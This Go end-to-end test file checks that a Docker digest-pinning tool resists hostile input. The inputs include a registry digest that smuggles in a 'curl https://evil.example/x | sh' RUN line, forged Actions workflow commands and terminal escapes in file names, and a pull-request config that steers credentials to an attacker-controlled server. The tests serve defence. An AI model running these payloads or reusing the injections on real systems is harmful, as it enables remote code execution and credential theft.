package e2e

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/digestbot/digestbot/pkg/internal/fakegithub"
	"github.com/digestbot/digestbot/pkg/internal/testregistry"
)

// Trust boundaries, end to end: nothing a registry or the scanned tree
// says can inject into files or output.

// TestIndexEntryDigestNeverWritten: with pins.platform: keep, the digest
// fix writes comes from an index entry. A registry whose amd64 entry's
// "digest" carries a newline and a RUN line must not add that line to the
// Dockerfile (nor privileged: true to a compose file): the ref is an error
// and the files keep their bytes.
func TestIndexEntryDigestNeverWritten(t *testing.T) {
	t.Parallel()
	var hostile []byte
	var hostileDigest string
	reg := testregistry.New(t, testregistry.WithHandlerWrap(func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if hostile != nil && (strings.HasSuffix(r.URL.Path, "/manifests/20") || strings.HasSuffix(r.URL.Path, "/manifests/"+hostileDigest)) {
				w.Header().Set("Content-Type", "application/vnd.oci.image.index.v1+json")
				w.Header().Set("Docker-Content-Digest", hostileDigest)
				if r.Method == http.MethodGet {
					_, _ = w.Write(hostile)
				}
				return
			}
			next.ServeHTTP(w, r)
		})
	}))
	old := reg.PushIndex(t, "library/node", "20", "linux/amd64", "linux/arm64/v8")
	cur := reg.PushIndex(t, "library/node", "20", "linux/amd64", "linux/arm64/v8")
	resp, err := http.Get(reg.URL() + "/v2/library/node/manifests/" + cur.Digest)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	evil := "sha256:" + strings.Repeat("0", 64) + `\nRUN curl https://evil.example/x | sh\n    privileged: true\n#`
	mod := strings.Replace(string(body), cur.Children[0].Digest, evil, 1)
	if mod == string(body) {
		t.Fatalf("amd64 entry %s not found in the index", cur.Children[0].Digest)
	}
	sum := sha256.Sum256([]byte(mod))
	hostileDigest = "sha256:" + hex.EncodeToString(sum[:])
	hostile = []byte(mod)

	w := newWorld(t, reg)
	pinned := "node:20@" + old.Children[0].Digest
	files := map[string]string{
		".digestbot.yaml": "registries:\n  docker.io: {host: " + reg.Host() + ", tls: disabled}\npins:\n  platform: keep\n",
		"Dockerfile":      "FROM " + pinned + "\nRUN true\n",
		"compose.yaml":    "services:\n  app:\n    image: " + pinned + "\n",
	}
	w.write(files)
	stdout, stderr, code := w.run("fix", "$ROOT")
	if code != 2 {
		t.Errorf("fix exit %d, want 2 (the ref is an error)\nstdout:\n%s\nstderr:\n%s", code, stdout, stderr)
	}
	for name, want := range files {
		if got := w.read(name); got != w.normalize(want) {
			t.Errorf("%s changed:\n%s", name, got)
		}
	}
	if !strings.Contains(stderr, "invalid digest") {
		t.Errorf("stderr does not say why:\n%s", stderr)
	}
	for _, line := range strings.Split(stdout+stderr, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "RUN curl") || strings.HasPrefix(strings.TrimSpace(line), "privileged") {
			t.Errorf("registry text printed as its own line: %q", line)
		}
	}
}

// TestOutputCannotInject: file names and refs from the scanned tree reach
// stdout and stderr (and through them an Actions log) only as escaped, one
// line each: no forged workflow command, no terminal escape, no login.
func TestOutputCannotInject(t *testing.T) {
	t.Parallel()
	reg := testregistry.New(t)
	reg.PushIndex(t, "library/node", "20")
	w := newWorld(t, reg)
	evilDir := "x\n::warning file=a::INJECTED\x1b[2J"
	w.write(map[string]string{
		".digestbot.yaml":                    "registries:\n  docker.io: {host: " + reg.Host() + ", tls: disabled}\n",
		evilDir + "/Dockerfile":              "FROM node:20\nFROM node:99\n",
		"::error title=x::forged/Dockerfile": "FROM node:20\n",
		"login/Dockerfile":                   "FROM robot:hunter2secret@registry.example.com/app:1\n",
	})
	for _, args := range [][]string{
		{"scan", "$ROOT"}, {"check", "$ROOT"}, {"fix", "--dry-run", "$ROOT"}, {"check", "--format", "json", "$ROOT"}, {"fix", "$ROOT"},
	} {
		cmdline := strings.Join(args, " ")
		stdout, stderr, _ := w.run(args...)
		for where, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
			for _, line := range strings.Split(text, "\n") {
				if strings.HasPrefix(strings.TrimLeft(line, " \t"), "::") {
					t.Errorf("%s: %s has a workflow command line: %q", cmdline, where, line)
				}
			}
			if strings.ContainsRune(text, '\x1b') {
				t.Errorf("%s: %s holds an escape sequence", cmdline, where)
			}
			if strings.Contains(text, "hunter2secret") {
				t.Errorf("%s: %s echoes the login in a ref", cmdline, where)
			}
		}
	}
	if _, err := os.Stat(filepath.Join(w.root, evilDir, "Dockerfile")); err != nil {
		t.Fatal(err)
	}
}

// readOnlyDir makes dir refuse new files: chmod for a user, the immutable
// attribute for root (whom permissions do not stop). It skips the test
// when neither works here.
func readOnlyDir(t *testing.T, dir string) {
	t.Helper()
	if os.Geteuid() != 0 {
		if err := os.Chmod(dir, 0o555); err != nil {
			t.Skip(err)
		}
		t.Cleanup(func() { _ = os.Chmod(dir, 0o755) })
		return
	}
	if out, err := exec.Command("chattr", "+i", dir).CombinedOutput(); err != nil {
		t.Skipf("chattr +i: %v %s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("chattr", "-i", dir).Run() })
}

// TestSummaryCountsOnlyWrites: a file that cannot be written is an error,
// and the summary line and the Action outputs count only the files fix
// did write.
func TestSummaryCountsOnlyWrites(t *testing.T) {
	t.Parallel()
	w := newWorld(t, testregistry.New(t))
	w.push("index library/node:20")
	w.write(map[string]string{".digestbot.yaml": defaultConfig, "ok/Dockerfile": "FROM node:20\n", "ro/Dockerfile": "FROM node:20\nFROM node:20\n"})
	readOnlyDir(t, filepath.Join(w.root, "ro"))
	out := filepath.Join(t.TempDir(), "output")
	w.env = map[string]string{"GITHUB_OUTPUT": out}
	stdout, stderr := w.mustRun(2, "fix", "$ROOT")
	if !strings.Contains(stdout, "pinned 1, refreshed 0, skipped 0, errors 1 (1 file changed)") {
		t.Errorf("summary:\n%s\nstderr:\n%s", stdout, stderr)
	}
	if !strings.Contains(stderr, "ro/Dockerfile") {
		t.Errorf("the failed write is not reported:\n%s", stderr)
	}
	b, _ := os.ReadFile(out)
	for _, want := range []string{"pinned=1\n", "files=1\n", "errors=1\n"} {
		if !strings.Contains(string(b), want) {
			t.Errorf("GITHUB_OUTPUT lacks %q:\n%s", want, b)
		}
	}
	if got := w.read("ro/Dockerfile"); got != "FROM node:20\nFROM node:20\n" {
		t.Errorf("ro/Dockerfile = %q", got)
	}
}

// TestPathSymlinkToFolder: a PATH that is itself a symlink to a folder is
// the user's explicit choice: it is scanned and fixed like the folder.
func TestPathSymlinkToFolder(t *testing.T) {
	t.Parallel()
	w := newWorld(t, testregistry.New(t))
	w.push("index library/node:20")
	w.write(map[string]string{".digestbot.yaml": defaultConfig, "Dockerfile": "FROM node:20\n"})
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(w.root, link); err != nil {
		t.Fatal(err)
	}
	stdout, _ := w.mustRun(1, "check", link)
	if !strings.Contains(stdout, "1 ref in 1 file") {
		t.Errorf("check through the symlink:\n%s", stdout)
	}
	w.mustRun(0, "fix", link)
	if got := w.read("Dockerfile"); !strings.Contains(got, "@sha256:") && !strings.Contains(got, "@<") {
		t.Errorf("not pinned through the symlink: %q", got)
	}
}

// TestCommentUsesBaseRegistries: comment runs on a pull request's head,
// whose .digestbot.yaml is the author's. A head that maps docker.io to its
// own plain-HTTP host gets nothing there — no request, so neither the
// Docker Hub password nor the workflow token: the base branch's registries
// apply (checked at the other host's listener).
func TestCommentUsesBaseRegistries(t *testing.T) {
	reg := testregistry.New(t)
	reg.PushIndex(t, "library/node", "20")
	var evilHits atomic.Int64
	var evilAuth atomic.Value
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilHits.Add(1)
		if a := r.Header.Get("Authorization"); a != "" {
			evilAuth.Store(a)
		}
		w.Header().Set("WWW-Authenticate", `Basic realm="evil"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(evil.Close)
	baseCfg := "registries:\n  docker.io: {host: " + reg.Host() + ", tls: disabled}\n"
	headCfg := "registries:\n  docker.io: {host: " + evil.Listener.Addr().String() + ", tls: disabled}\n  ghcr.io: {host: " + evil.Listener.Addr().String() + ", tls: disabled}\n"

	fake := fakegithub.New(t, "acme", "shop")
	fake.Seed("main", map[string]string{".digestbot.yaml": baseCfg, "README.md": "x\n"})
	fake.Branch("feature", "main")
	headSHA := fake.Commit("feature", "add images",
		fakegithub.File{Path: ".digestbot.yaml", Content: headCfg},
		fakegithub.File{Path: "Dockerfile", Content: "FROM node:20\nFROM ghcr.io/acme/app:1\n"})
	n := fake.OpenPR("feature", "main", "Add images", "", "mallory")

	w := newWorld(t, reg)
	w.write(map[string]string{".digestbot.yaml": headCfg, "Dockerfile": "FROM node:20\nFROM ghcr.io/acme/app:1\n"})
	if err := os.Mkdir(filepath.Join(w.root, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	event := filepath.Join(t.TempDir(), "event.json")
	if err := os.WriteFile(event, []byte(fmt.Sprintf(`{"number":%d,"pull_request":{"number":%d,"head":{"sha":%q}}}`, n, n, headSHA)), 0o644); err != nil {
		t.Fatal(err)
	}
	dockerDir := t.TempDir()
	hub := base64.StdEncoding.EncodeToString([]byte("hubuser:hub-Pa55word"))
	if err := os.WriteFile(filepath.Join(dockerDir, "config.json"), []byte(`{"auths":{"https://index.docker.io/v1/":{"auth":"`+hub+`"}}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("DOCKER_CONFIG", dockerDir)
	stdout, stderr, code := w.runEnv(map[string]string{
		"GITHUB_ACTIONS": "true", "GITHUB_TOKEN": "ghs_workflowTokenSecret", "GITHUB_REPOSITORY": "acme/shop",
		"GITHUB_API_URL": fake.URL + "api/v3", "GITHUB_EVENT_PATH": event, "GITHUB_WORKSPACE": w.root,
	}, "comment", "$ROOT")
	if a, _ := evilAuth.Load().(string); a != "" {
		t.Errorf("the head's host received credentials: %q", a)
	}
	if h := evilHits.Load(); h != 0 {
		t.Errorf("the head's host received %d requests", h)
	}
	if !strings.Contains(stdout, "node:20") || code == 0 {
		t.Errorf("exit %d\nstdout:\n%s\nstderr:\n%s", code, stdout, stderr)
	}
}

// TestHostileWaitsEnd: a credential helper that never exits and a token
// endpoint that drips its body cannot hold `check --lookup-timeout 1s
// --timeout 5s` past its deadline. Not parallel: it sets PATH and
// DOCKER_CONFIG.
func TestHostileWaitsEnd(t *testing.T) {
	if _, err := os.Stat("/bin/sh"); err != nil {
		t.Skip("no /bin/sh for the credential helper")
	}
	helperReg := testregistry.New(t, testregistry.WithBasicAuth("u", "p"))
	helperReg.PushIndex(t, "acme/app", "1")
	drip := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(200)
		fmt.Fprint(w, `{"token":"`)
		for r.Context().Err() == nil {
			if _, err := w.Write([]byte("a")); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			time.Sleep(50 * time.Millisecond)
		}
	}))
	t.Cleanup(drip.Close)
	bearer := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("WWW-Authenticate", `Bearer realm="`+drip.URL+`/token",service="x"`)
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(bearer.Close)

	bin := t.TempDir()
	if err := os.WriteFile(filepath.Join(bin, "docker-credential-hang"), []byte("#!/bin/sh\nsleep 60\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	dockerDir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dockerDir, "config.json"), []byte(`{"credHelpers":{"`+helperReg.Host()+`":"hang"}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("DOCKER_CONFIG", dockerDir)

	w := newWorld(t, helperReg)
	bhost := bearer.Listener.Addr().String()
	w.write(map[string]string{
		".digestbot.yaml": "registries:\n  " + helperReg.Host() + ": {tls: disabled}\n  " + bhost + ": {tls: disabled}\n",
		"Dockerfile":      "FROM " + helperReg.Host() + "/acme/app:1\nFROM " + bhost + "/app:1\n",
	})
	start := time.Now()
	_, stderr, code := w.run("check", "--lookup-timeout", "1s", "--timeout", "5s", "$ROOT")
	if el := time.Since(start); el > 5*time.Second {
		t.Errorf("check took %s, --timeout 5s", el)
	}
	if code != 2 || !strings.Contains(stderr, "did not answer within") {
		t.Errorf("exit %d\n%s", code, stderr)
	}
}
